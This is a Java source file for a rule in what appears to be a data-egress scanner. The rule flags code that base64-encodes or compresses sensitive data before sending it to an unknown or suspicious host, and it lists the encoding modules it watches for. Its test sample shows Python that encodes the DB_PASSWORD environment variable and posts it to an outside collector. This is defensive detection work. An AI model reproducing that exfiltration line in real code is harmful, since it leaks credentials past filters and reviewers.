package dev.weir.scan.rules;

import dev.weir.scan.egress.Flow;
import dev.weir.scan.finding.Category;
import dev.weir.scan.finding.Risk;
import dev.weir.scan.knowledge.Transform;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;

/**
 * Data of which something is known is packed or written in other letters, and then goes where it is grave, or to nobody known.
 */
final class HiddenByEncoding implements Rule {

  private static final Set<String> HIDING = Set.of("base64", "binascii", "zlib", "gzip", "bz2", "lzma",
      "codecs", "marshal", "quopri",
      "uu", "brotli", "zstandard", "lz4", "snappy");
  private static final Set<String> OF_NO_INTEREST = Set.of("DATA", "CONFIG");

  @Override
  public About about() {
    return About.of("hidden-by-encoding", "Data is encoded before it leaves", Risk.MEDIUM,
        "Encoding keeps nothing secret; it hides from filters and from people what is sent.",
        "Send it as it is, so that it can be inspected, or encrypt it for the recipient.")
        .hits(
            """
                import base64, os, requests
                requests.post("https://collect.acme-metrics.io/v1", data=base64.b64encode(os.environ["DB_PASSWORD"].encode()))
                """)
        .misses("""
            import base64, requests
            requests.post("https://collect.acme-metrics.io/v1", data=base64.b64encode(b"hello"))
            """);
  }

  @Override
  public Stream<Remark> judge(Subject subject) {
    return subject.sendings().stream().filter(Sending::sends).flatMap(sending -> {
      var flows = hidden(sending);
      if (flows.isEmpty())
        return Stream.empty();
      return Stream.of(sending.remark(
          "Encodes " + Sentences.of(flows) + " before it goes to " + Sentences.of(sending.recipient()) + ".",
          flows));
    });
  }

  private static List<Flow> hidden(Sending sending) {
    var category = sending.recipient().category();
    boolean nobody = category == Category.UNKNOWN || category == Category.DROP;
    return sending.egress().flows().stream()
        .filter(flow -> flow.where() != Flow.Part.CREDENTIAL && !Sensitivity.harmless(flow))
        .filter(flow -> flow.transforms().stream().anyMatch(HiddenByEncoding::hides))
        .filter(flow -> nobody && !OF_NO_INTEREST.contains(flow.datum().type())
            || Sensitivity.isGrave(flow.datum().type()))
        .toList();
  }

  private static boolean hides(Transform transform) {
    int dot = transform.what().indexOf('.');
    return dot > 0 && HIDING.contains(transform.what().substring(0, dot));
  }
}
